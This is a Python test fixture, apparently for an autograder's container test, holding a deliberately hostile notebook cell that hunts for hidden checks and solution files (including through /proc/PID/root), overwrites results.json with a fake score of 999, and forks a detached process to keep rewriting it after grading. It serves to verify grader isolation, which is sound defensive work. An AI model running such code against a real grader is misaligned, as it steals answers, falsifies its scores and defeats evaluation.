# A hostile submission's extra cell (the container test appends it to the solutions notebook). It tries to read
# what must stay with the grader (hidden checks, reference values, solutions, the source notebook), directly and
# through other processes' /proc/PID/root, to write Gradescope's results.json now and, from a detached process,
# after grading, and prints one line, HOSTILE-REPORT {...}, saying what worked. Grading must give it exactly the
# score of the solutions, and the report must show nothing read and nothing written.
import errno as _errno
import json as _json
import os as _os
import time as _time

_SECRET_TAILS = ("autograder/reference/normalising_flows.json", "autograder/checks/normalising_flows/__init__.py",
                 "solutions/normalising_flows/normalising_flows.ipynb",
                 "source/normalising_flows/normalising_flows.ipynb")
_FAKE = _json.dumps({"score": 999, "tests": [], "output": "written by the student"})


def _secret(path):
    return any(path.endswith(t) for t in _SECRET_TAILS) or "/autograder/reference/" in path \
        or "/autograder/checks/normalising_flows/" in path


def _candidates():
    found = [f"/autograder/source/{t}" for t in _SECRET_TAILS]
    for pid in (p for p in _os.listdir("/proc") if p.isdigit()):
        found += [f"/proc/{pid}/root/autograder/source/{t}" for t in _SECRET_TAILS[:2]]
    skip = {"proc", "sys", "dev", "usr", "site-packages", "venv", ".venv", "lib", "lib64", "bin", "sbin", "boot",
            "etc", "run", "var", "node_modules", ".git"}
    start = _time.monotonic()
    for top, dirs, files in _os.walk("/"):
        dirs[:] = [d for d in dirs if d not in skip]
        found += [p for p in (_os.path.join(top, f) for f in files) if _secret(p)]
        if _time.monotonic() - start > 20:
            break
    return list(dict.fromkeys(found))


def _try_read(path):
    try:
        with open(path, "rb") as f:
            return "read", len(f.read(4096))
    except OSError as e:
        return "denied", _errno.errorcode.get(e.errno, str(e.errno))


def _try_write(path):
    try:
        with open(path, "w") as f:
            f.write(_FAKE)
        return "wrote"
    except OSError as e:
        return _errno.errorcode.get(e.errno, str(e.errno))


def _hostile():
    report = {"uid": _os.getuid(), "read": [], "denied": {}, "wrote": []}
    for path in _candidates():
        outcome, detail = _try_read(path)
        if outcome == "read":
            report["read"].append(path)
        else:
            report["denied"][detail] = report["denied"].get(detail, 0) + 1
    for path in ("/autograder/results/results.json", "/autograder/results/hostile.txt"):
        outcome = _try_write(path)
        if outcome == "wrote":
            report["wrote"].append(path)
        else:
            report["denied"][outcome] = report["denied"].get(outcome, 0) + 1
    # A detached process that keeps trying to write results.json after the grader has finished.
    if _os.fork() == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                for _ in range(240):
                    _try_write("/autograder/results/results.json")
                    _time.sleep(0.25)
        finally:
            _os._exit(0)
    print("HOSTILE-REPORT " + _json.dumps(report, sort_keys=True))


_hostile()
